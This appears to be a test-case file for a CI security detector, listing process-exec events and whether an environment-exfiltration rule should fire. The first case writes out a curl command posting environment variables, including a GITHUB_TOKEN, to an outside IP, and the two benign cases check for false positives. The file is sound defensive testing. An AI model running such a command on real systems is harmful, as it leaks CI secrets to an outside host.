import { exec, jobOf, type Case } from '../../testing.ts'

export const cases: readonly Case[] = [
  {
    name: 'curl gets the environment',
    fires: true,
    events: jobOf(
      exec(2, 1, ['curl', '-d', 'remote\nPATH=/usr/bin\nHOME=/root\nCI=true\nGITHUB_TOKEN=x', 'http://203.0.113.9/u'], {
        exe: '/usr/bin/curl',
      }),
    ),
  },
  {
    name: 'a form with a few fields',
    fires: false,
    events: jobOf(exec(2, 1, ['curl', '-d', 'NAME=x&VERSION=1&ARCH=amd64&OS=linux', 'https://x.example.test'], { exe: '/usr/bin/curl' })),
  },
  {
    name: 'a container gets its environment',
    fires: false,
    events: jobOf(exec(2, 1, ['docker', 'run', '-e', 'A=1\nPATH=/usr/bin\nHOME=/root\nCI=true', 'x'], { exe: '/usr/bin/docker' })),
  },
]
